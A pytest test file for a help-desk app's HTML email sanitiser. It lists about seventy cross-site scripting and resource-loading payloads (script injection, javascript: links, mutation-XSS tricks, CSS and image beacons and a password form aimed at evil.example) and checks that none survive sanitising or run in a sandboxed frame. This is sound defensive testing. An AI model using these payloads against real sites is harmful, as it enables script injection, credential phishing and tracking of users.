"""HTML that wants to run, load, submit, redirect or cover the desk, by the way that customers have: a mail."""

from collections.abc import Callable
from datetime import datetime
from email.message import EmailMessage
from html.parser import HTMLParser
from typing import Any

import pytest

from app.desk import inbox
from app.mail.html import sanitise
from tests.small import ADDRESS, SmallDesk

VECTORS = (
    "<script>alert(1)</script>",
    "<ScRiPt\n>alert(1)</sCrIpT\t>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a><a href='file:///etc/passwd'>x</a><a href='blob:x'>x</a>",
    "<a href='//evil.example'>x</a><a href='/sign-out'>x</a><a href='?next'>x</a>",
    "<a href='https://x.example' ping='https://evil.example' target=_top download>x</a>",
    "<area href=javascript:alert(1)><map name=x><area href=javascript:alert(1)></map>",
    "<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)><applet code=x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example>",
    "<style>@import url(https://evil.example/x.css);*{background:url(https://evil.example)}</style>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='background-image:u\\72l(https://evil.example/x)'>x</div>",
    "<div style='color:red;list-style:url(https://evil.example/x);content:url(//evil.example)'>x</div>",
    "<div style='width:expression(alert(1));behavior:url(#x);-moz-binding:url(//evil.example)'>x</div>",
    "<div style='border:image-set(\"https://evil.example/x\" 1x) 1px'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;z-index:9999'>x</div>",
    "<div style='color:red}*{background:url(//evil.example)'>x</div>",
    "<div style='font-family:\"</style><script>alert(1)</script>\"'>x</div>",
    "<img src=https://evil.example/pixel.gif>",
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='https://evil.example/a 1x' sizes=1px>",
    "<img src='https://blocked.invalid/?https://evil.example\" onerror=\"alert(1)'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='cid:x\" onerror=\"alert(1)'>",
    "<img lowsrc=//evil.example dynsrc=//evil.example src=cid:none>",
    "<picture><source srcset=//evil.example><img src=//evil.example></picture>",
    "<video poster=//evil.example src=//evil.example autoplay><source src=//evil.example></video>",
    "<audio src=//evil.example autoplay></audio><input type=image src=//evil.example>",
    "<body background=//evil.example onload=alert(1)><table background=//evil.example><tr><td background=//evil.example>",
    "<form action=//evil.example><input name=password><button formaction=//evil.example>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<div hx-get=/sign-out hx-trigger=load data-hx-post=/sign-out hx-on:click=alert(1)>x</div>",
    "<div id=toasts class=dialog name=csrf data-x=1 slot=x is=x contenteditable autofocus onfocus=alert(1)>x</div>",
    "<details open ontoggle=alert(1)><marquee onstart=alert(1)>x</marquee><dialog open>x</dialog>",
    "<x-card onclick=alert(1)>x</x-card><script src=//evil.example",
    "<b <script>alert(1)</script>0",
    "<a href='x' title='</a><img src=x onerror=alert(1)>'>x</a>",
    "<p title='\u2028\" onmouseover=\"alert(1)'>x</p>",
    "\u2039script\u203aalert(1)\uff1cscript\uff1ealert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<table><td><svg></table><img src=x onerror=alert(1)></svg>",
    "<a id=1>" * 400 + "<img src=x onerror=alert(1)>",
)
KEPT = {"href": ("http://", "https://", "mailto:", "tel:"), "src": ("data:image/",)}
STRUCTURE = {"html", "head", "body", "meta", "title", "style"}


class Found(HTMLParser):
    """What a browser would find: tags, and attributes that load or do something."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.bad: list[tuple[str, str, str]] = []
        self.feed(markup)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            said = (value or "").strip().lower()
            if name in KEPT:
                bad = not said.startswith(KEPT[name])
            elif name == "style":
                bad = any(
                    word in said for word in ("url", "expression", "image", "position", "behavior", "\\", "}")
                )
            elif name == "target":
                bad = said != "_blank"
            else:
                bad = name not in ("title", "alt", "rel", "width", "height", "dir", "lang", "align")
            if bad:
                self.bad.append((tag, name, said))


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_of_it_is_left(vector: str) -> None:
    once = sanitise(f"<p>before</p>{vector}<p>after</p>")
    found = Found(once)
    assert found.bad == []
    assert not found.tags & {
        *(
            "script",
            "style",
            "svg",
            "math",
            "iframe",
            "frame",
            "object",
            "embed",
            "form",
            "input",
            "button",
            "base",
        ),
        *(
            "meta",
            "link",
            "template",
            "video",
            "audio",
            "picture",
            "source",
            "textarea",
            "noscript",
            "dialog",
            "body",
        ),
    }
    assert Found(sanitise(once)).tags == found.tags  # what is read is what was written: nothing mutates


def test_a_browser_finds_nothing_to_run_or_load(chromium: Any) -> None:
    """Without the frame and its policy, which would stop what gets through here."""
    page = chromium.new_page()
    heard: list[str] = []
    page.on("dialog", lambda dialog: (heard.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: heard.append(request.url))
    for vector in VECTORS:
        page.set_content(f"<!doctype html><body>{sanitise(vector)}</body>")
        page.evaluate(
            "document.querySelectorAll('*').forEach(one => { one.focus?.(); one.dispatchEvent(new Event('mouseover')) })"
        )
        assert (vector, heard) == (vector, [])
    page.close()


def test_the_frame_of_all_of_them(desk: SmallDesk, now: datetime, browser_as: Callable[..., Any]) -> None:
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = (
        "eve@evil.example",
        ADDRESS,
        "<img src=x onerror=alert(1)>",
    )
    message.set_content("see the other part")
    message.add_alternative("".join(f"<div>{vector}</div>" for vector in VECTORS[:15]), subtype="html")
    receipt = inbox.receive(message.as_bytes(), now=now, source="command")
    browser = browser_as(desk.bob)
    with browser.get(f"/tickets/{receipt.ticket}") as page:
        assert "<img src=x" not in page.text
        assert "&lt;img src=x onerror=alert(1)&gt;" in page.text
        number = page.text.partition("/messages/")[2].partition("/")[0]
    for address in (f"/messages/{number}/html", f"/messages/{number}/html?images=1"):
        with browser.get(address) as frame:
            policy = frame.headers["Content-Security-Policy"]
            assert Found(frame.text.partition("<body>")[2]).bad == []
        assert "sandbox allow-popups" in policy
        assert "allow-scripts" not in policy
        assert "allow-same-origin" not in policy
        assert ("https:" in policy) == address.endswith("images=1")
